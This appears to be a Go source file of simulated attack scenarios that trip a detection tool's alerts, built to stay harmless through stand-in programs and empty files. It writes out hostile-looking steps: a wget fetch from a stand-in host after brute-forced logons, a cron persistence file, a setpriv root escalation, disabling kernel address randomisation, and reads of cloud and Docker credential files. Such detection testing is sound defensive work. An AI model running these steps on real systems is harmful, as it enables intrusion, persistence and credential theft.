package simulate

import (
	"context"
	"fmt"
	"os"
)

// The scenarios of this file play more than one step: what somebody does with a
// way in.

var bruteForcedSession = Scenario{
	Name:      "brute-forced-session",
	Title:     "a guessed session fetches a program",
	AlertType: "HF_BruteForcedSession",
	Summary: "Sends the audit records of 25 refused logons; then a copy of the shell named sshd starts a session that " +
		"names their address, in which a program named wget runs. Nobody logs on. " + harmless,
	Needs: []Need{NeedAuditWrite},
	Run: func(ctx context.Context, s *Stage) error {
		address := attacker()
		if err := sendRecords(ctx, refusals(address, func(int) string { return s.Token }, bruteForceRefusals)); err != nil {
			return err
		}
		server, err := s.Copy("sh", s.Path("sshd"))
		if err != nil {
			return err
		}
		tool, err := s.StandIn("wget")
		if err != nil {
			return err
		}
		// The session lasts so long that its environment can be read.
		text := fmt.Sprintf(`SSH_CONNECTION="%s 40000 192.0.2.1 22" sh -c "sleep 1; %s -q http://192.0.2.7/%s; :"; :`, address, tool, s.Token)
		return s.Exec(ctx, server, "-c", text)
	},
}

var serverPersistence = Scenario{
	Name:      "server-persistence",
	Title:     "a web server makes a scheduled task",
	AlertType: "HF_ServerPersistence",
	Summary: "A copy of the shell named nginx makes a file in /etc/cron.d with a comment, under a name with a dot, which " +
		"cron ignores, and it is removed. Nothing listens, nothing is served.",
	Needs: []Need{NeedRoot},
	Run: func(ctx context.Context, s *Stage) error {
		path := "/etc/cron.d/holdfast." + s.Token
		if err := s.WillCreate(path); err != nil {
			return err
		}
		server, err := s.Copy("sh", s.Path("nginx"))
		if err != nil {
			return err
		}
		return s.Exec(ctx, server, "-c", "umask 227; echo '# "+s.Token+"' > "+path)
	},
}

var rootGained = Scenario{
	Name:      "root-gained",
	Title:     "a shell becomes root below an ordinary account",
	AlertType: "HF_RootGained",
	Summary: "Root becomes an account without a name, number 61234, with setpriv(1), keeping the ability to change users; " +
		"a shell of that account then starts another one as root, which ends at once. No account is changed.",
	Needs: []Need{NeedRoot, NeedProgram("setpriv")},
	Run: func(ctx context.Context, s *Stage) error {
		// A copy by another name, because setpriv is among those that lend root on purpose.
		tool, err := s.Copy("setpriv", s.Path("exploit"))
		if err != nil {
			return err
		}
		if err := os.Chmod(s.Dir, 0o755); err != nil {
			return err
		}
		return s.Exec(ctx, "setpriv", "--reuid=61234", "--inh-caps=+setuid", "--ambient-caps=+setuid",
			"sh", "-c", tool+" --reuid=0 sh -c ':' "+s.Token+"; :", s.Token)
	},
}

var kernelProtection = Scenario{
	Name:      "kernel-protection-off",
	Title:     "random addresses are switched off",
	AlertType: "HF_KernelProtectionDisabled",
	Summary:   "Runs a program named sysctl with a setting of the kernel. " + harmless,
	Run:       standIn("sysctl", "-w", "kernel.randomize_va_space=0"),
}

var credentialSweep = Scenario{
	Name:      "credentials-gathered",
	Title:     "the credentials of several programs are read",
	AlertType: "HF_CredentialSweep",
	Summary:   "Reads three empty files of its own below /tmp, named as programs name those of their keys, with cat(1).",
	Run: func(ctx context.Context, s *Stage) error {
		text := ""
		for _, name := range []string{".aws/credentials", ".docker/config.json", ".netrc"} {
			path, err := s.Write(name, "")
			if err != nil {
				return err
			}
			text += "cat " + path + "; "
		}
		return s.Shell(ctx, text+":")
	},
}
